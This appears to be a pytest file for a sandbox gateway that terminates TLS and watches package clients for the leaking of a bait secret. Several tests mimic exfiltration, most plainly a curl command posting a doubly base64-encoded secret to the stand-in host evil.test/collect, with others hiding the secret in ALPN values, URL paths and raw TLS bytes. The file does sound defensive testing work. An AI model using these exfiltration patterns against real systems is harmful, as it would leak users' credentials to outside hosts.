"""The gateway as a whole over TLS, with the clients that packages use."""

from __future__ import annotations

import asyncio
import base64
import json
import socket
import ssl
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx
import pytest

from sandbox import events
from sandbox.gateway import channel
from sandbox.gateway.tls import CertificateAuthority
from sandbox.streams import Peer
from tests.gateway_rig import AUTHORITY, GET, SECRET, World, play, working

world = pytest.fixture(working)


class SocketStream:
    """A stream over a real socket, as the link will be."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, address: str, number: int) -> None:
        self.peer = Peer(connection=number, address=address, port=443, process=9)
        self._reader, self._writer = reader, writer

    async def read(self) -> bytes:
        return await self._reader.read(262144)

    async def write(self, data: bytes) -> None:
        self._writer.write(data)
        await self._writer.drain()

    async def finish(self) -> None:
        if self._writer.can_write_eof():
            self._writer.write_eof()

    def reset(self) -> None:
        self._writer.transport.abort()


def with_server(world: World, client: Callable[[str], Any], host: str = "registry.test") -> Any:
    """Serve on a Unix socket (it needs no network) while `client(path)` runs on a thread."""
    address = world.address(host)

    async def run() -> Any:
        async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            world.number += 1
            await world.gateway.serve(SocketStream(reader, writer, address, world.number))
            writer.close()

        path = str(world.path.with_name("s"))
        async with await asyncio.start_unix_server(serve, path):
            result = await asyncio.to_thread(client, path)
            others = [task for task in asyncio.all_tasks() if task is not asyncio.current_task()]
            if others:
                await asyncio.wait(others, timeout=5)
            return result

    return asyncio.run(run())


def trusting() -> ssl.SSLContext:
    return ssl.create_default_context(cadata=AUTHORITY.ca_pem.decode())


@contextmanager
def connected(path: str) -> Iterator[socket.socket]:
    with socket.socket(socket.AF_UNIX) as plain:
        plain.connect(path)
        yield plain


@contextmanager
def secured(path: str, name: str) -> Iterator[ssl.SSLSocket]:
    with connected(path) as plain, trusting().wrap_socket(plain, server_hostname=name) as secure:
        yield secure


def test_python_client(world: World) -> None:
    def client(path: str) -> bytes:
        with secured(path, "registry.test") as secure:
            secure.sendall(GET % (b"/a.tgz", b"registry.test", b"Connection: close\r\n"))
            data = b""
            while piece := secure.recv(65536):
                data += piece
            return data

    assert with_server(world, client).endswith(world.file.read_bytes())
    (ended,) = world.seen(events.TlsEnded)
    assert (ended.host, ended.error) == ("registry.test", "")
    assert world.seen(events.RequestSent)[0].url == "https://registry.test/a.tgz"
    assert world.seen(events.RequestSent)[0].answered_by == "registry"
    assert world.seen(events.SensorLost) == []


def test_bait_among_application_protocols(world: World) -> None:
    context = trusting()
    context.set_alpn_protocols([SECRET, "http/1.1"])

    def client(path: str) -> None:
        with connected(path) as plain, context.wrap_socket(plain, server_hostname="evil.test"):
            pass

    with_server(world, client, "evil.test")
    assert {event.host for event in world.seen(events.DecoySent)} == {"evil.test"}


def test_httpx_client(world: World) -> None:
    def client(path: str) -> tuple[int, Any]:
        transport = httpx.HTTPTransport(verify=trusting(), uds=path)
        with httpx.Client(transport=transport) as session:
            session.post("https://registry.test/-/v1/login", json={"t": SECRET})
            answer = session.get("https://registry.test/left-pad")
            return answer.status_code, answer.json()

    assert with_server(world, client) == (200, {"name": "left-pad"})
    assert [event.connection for event in world.seen(events.RequestSent)] == [1, 1]
    assert [event.answered_by for event in world.seen(events.RequestSent)] == ["empty", "registry"]
    assert len(world.seen(events.DecoySent)) == 1


def test_curl_client(world: World, tmp_path: Path) -> None:
    authority = tmp_path / "ca.pem"
    authority.write_bytes(AUTHORITY.ca_pem)

    def client(path: str) -> bytes:
        return subprocess.run(
            ["curl", "--silent", "--show-error", "--fail", "--cacert", str(authority), "--data", "@-",
             "--unix-socket", path, "https://evil.test/collect"],
            input=json.dumps({"all": base64.b64encode(base64.b64encode(SECRET.encode())).decode()}).encode(),
            capture_output=True, check=True, timeout=20,
        ).stdout  # fmt: skip

    assert with_server(world, client, "evil.test") == b'{"ok":true}'
    (sent,) = world.seen(events.DecoySent)
    assert (sent.host, sent.where, sent.encodings) == ("evil.test", "body", ["base64", "base64"])


def test_a_pinned_certificate_shows(world: World) -> None:
    def client(path: str) -> None:
        with connected(path) as plain, pytest.raises(ssl.SSLCertVerificationError):
            ssl.create_default_context(cadata=CertificateAuthority().ca_pem.decode()).wrap_socket(
                plain, server_hostname="pinned.test"
            )

    with_server(world, client, "pinned.test")
    (ended,) = world.seen(events.TlsEnded)
    assert ended.host == "pinned.test"
    assert ended.error  # the client's alert, or its going away if that came first
    assert world.seen(events.SensorLost) == []


def test_a_name_that_differs_from_the_one_looked_up(world: World) -> None:
    def client(path: str) -> None:
        with secured(path, "registry.test") as secure:
            secure.sendall(GET % (b"/" + SECRET.encode(), b"registry.test", b"Connection: close\r\n"))
            secure.recv(100)

    with_server(world, client, "evil.test")
    (sent,) = world.seen(events.RequestSent)
    assert (sent.answered_by, sent.url) == ("empty", f"https://evil.test/{SECRET}")
    assert {event.host for event in world.seen(events.DecoySent)} == {"evil.test", "registry.test"}


def test_raw_bytes_under_tls(world: World) -> None:
    def client(path: str) -> None:
        with secured(path, "evil.test") as secure:
            secure.sendall(b"\x02" + SECRET.encode())

    with_server(world, client, "evil.test")
    (sent,) = world.seen(events.DataSent)
    assert (sent.protocol, sent.data) == ("tls", b"\x02" + SECRET.encode())
    assert len(world.seen(events.DecoySent)) == 1


def test_a_handshake_that_never_comes(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(channel, "IDLE", 0.05)
    hello = ssl.MemoryBIO()
    client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT).wrap_bio(ssl.MemoryBIO(), hello, server_hostname="one.test")
    with pytest.raises(ssl.SSLWantReadError):
        client.do_handshake()
    play(world, "one.test", 443, hello.read())
    (ended,) = world.seen(events.TlsEnded)
    assert ended.error


@pytest.mark.parametrize("count", [300])
def test_many_at_once(world: World, count: int) -> None:
    async def run() -> None:
        async def one(number: int) -> None:
            async with world.connect(f"h{number}.test", 80, process=number) as stream:
                stream.say(GET % (b"/", f"h{number}.test".encode(), b""))
                await stream.until(b"{}")

        await asyncio.gather(*(one(number) for number in range(count)))

    asyncio.run(run())
    assert len(world.seen(events.RequestSent)) == count
    assert threading.active_count() < 20
